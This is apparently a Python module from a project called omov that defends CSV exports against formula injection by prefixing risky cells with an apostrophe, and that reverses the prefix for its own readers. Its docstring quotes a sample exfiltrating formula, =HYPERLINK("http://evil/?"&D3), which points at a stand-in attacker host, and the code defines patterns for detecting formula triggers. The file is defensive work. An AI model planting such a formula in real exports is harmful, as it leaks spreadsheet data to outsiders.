"""Formula neutralisation for every CSV omov writes, and its exact inverse for omov's readers.

Why: a member export or a candidate's bio is text from outside. Written unchanged into a CSV
that a mailing house or an auditor opens in a spreadsheet, ``=HYPERLINK("http://evil/?"&D3)``
becomes a live formula (OWASP "CSV Injection"; ASVS 5.0 V1.2.10). So every cell a spreadsheet
would treat as a formula gets a leading apostrophe, which Excel, LibreOffice and Google Sheets
read as "this cell is text".

The rule (docs/formats.md, "CSV cells that could be formulas"). Let ``body`` be the cell without
the apostrophes it already starts with. The cell is *dangerous* when

* ``body`` starts with a tab, carriage return, line feed or NUL (OWASP, ASVS), or
* ``body`` without leading whitespace starts with ``=``, ``+``, ``-`` or ``@`` (or their
  full-width forms ``＝ ＋ － ＠``): some spreadsheets trim leading blanks before parsing,

and it is **not** a plain decimal number (``-1``, ``+2.5``, ``-3e-4``): a number cannot call a
function, and weights and counts must stay numbers. A dangerous cell is written as ``'`` + cell.

Because the test looks through apostrophes already present, the mapping is one-to-one:
``restore`` removes one leading apostrophe exactly when the cell is dangerous, so
``restore(neutralise(s)) == s`` for every string (a hypothesis test checks it), and a cell like
``'t Hooft`` is left alone both ways.
"""

from __future__ import annotations

import re
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    import pyarrow as pa

PREFIX = "'"
#: Characters that start a formula in some spreadsheet (ASCII and full-width forms).
TRIGGERS = "=+-@\uff1d\uff0b\uff0d\uff20"
#: Control characters that are dangerous as a cell's first character on their own.
CONTROLS = "\t\r\n\x00"
#: Whitespace a spreadsheet may skip before a trigger.
BLANKS = (
    " \t\r\n\f\v\x00\u00a0\u1680\u2000\u2001\u2002\u2003\u2004\u2005\u2006\u2007\u2008"
    "\u2009\u200a\u200b\u202f\u205f\u3000\ufeff"
)

# One pattern, in the syntax both Python's ``re`` and Arrow's RE2 accept (literal characters in
# classes, no \d: Python's \d matches non-ASCII digits, no \u: RE2 lacks it).
_ESCAPES = {
    "\t": "\\t",
    "\r": "\\r",
    "\n": "\\n",
    "\f": "\\f",
    "\v": "\\v",
    "\x00": "\\x00",
    "-": "\\-",
}


def _class(chars: str) -> str:
    return "".join(_ESCAPES.get(c, c) for c in chars)


DANGER = f"^'*(?:[{_class(CONTROLS)}]|[{_class(BLANKS)}]*[{_class(TRIGGERS)}])"
_NUMBER_BODY = "'*[+-]?(?:[0-9]+(?:[.][0-9]*)?|[.][0-9]+)(?:[eE][+-]?[0-9]+)?"
NUMBER = f"^{_NUMBER_BODY}$"  # RE2: ``$`` is the end of the text (Python: use fullmatch)
_DANGER = re.compile(DANGER)
_NUMBER = re.compile(_NUMBER_BODY)
#: First characters that can begin a dangerous cell: a cheap test before the regex.
FIRST_CHARS = frozenset(PREFIX + TRIGGERS + CONTROLS + BLANKS)
_FIRST = FIRST_CHARS


def is_dangerous(cell: str) -> bool:
    """True if a spreadsheet could execute ``cell`` (or ``cell`` is such a cell, neutralised)."""
    return (
        cell[:1] in _FIRST and _DANGER.match(cell) is not None and _NUMBER.fullmatch(cell) is None
    )


def neutralise(cell: str) -> str:
    """``cell`` as written to a CSV: ``'`` + cell if a spreadsheet could execute it."""
    return PREFIX + cell if cell[:1] in _FIRST and is_dangerous(cell) else cell


def restore(cell: str) -> str:
    """The raw value of a cell omov wrote (the exact inverse of ``neutralise``)."""
    return cell[1:] if cell[:1] == PREFIX and is_dangerous(cell) else cell


def neutralise_value(value: Any) -> Any:
    """``neutralise`` for a cell of any type: strings and anything written via ``str``.

    ``None`` and numbers (int, float, bool) pass through: the csv module writes them itself and
    their text is never dangerous (a number is not a formula). Anything else (Decimal, Fraction,
    an enum...) is turned into its text first, so ``-1/3`` cannot slip through as a formula.
    """
    if value is None or isinstance(value, int | float):
        return value
    return neutralise(value if isinstance(value, str) else str(value))


def neutralise_array(values: pa.Array | pa.ChunkedArray) -> pa.Array | pa.ChunkedArray:
    """``neutralise`` over an Arrow string array, in Arrow compute (no per-row Python)."""
    import pyarrow.compute as pc

    mask = _mask(values)
    if mask is None:
        return values
    return pc.if_else(mask, pc.binary_join_element_wise(PREFIX, values, ""), values)


def restore_array(values: pa.Array | pa.ChunkedArray) -> pa.Array | pa.ChunkedArray:
    """``restore`` over an Arrow string array (for omov's readers of its own CSVs)."""
    import pyarrow.compute as pc

    mask = _mask(values)
    if mask is None:
        return values
    mask = pc.and_(pc.starts_with(values, PREFIX), mask)
    return pc.if_else(mask, pc.utf8_slice_codeunits(values, 1), values)


def _mask(values: pa.Array | pa.ChunkedArray) -> pa.Array | pa.ChunkedArray | None:
    """Where ``is_dangerous`` holds, or None if nowhere (the common case: one regex pass)."""
    import pyarrow as pa
    import pyarrow.compute as pc

    # A cheap first pass (is any first character in FIRST_CHARS?) spares most columns the regex.
    first = pc.utf8_slice_codeunits(values, 0, 1)
    if not pc.any(pc.is_in(first, value_set=pa.array(sorted(FIRST_CHARS)))).as_py():
        return None
    danger = pc.fill_null(pc.match_substring_regex(values, DANGER), False)
    if not pc.any(danger).as_py():
        return None
    number = pc.fill_null(pc.match_substring_regex(values, NUMBER), False)
    return pc.and_(danger, pc.invert(number))
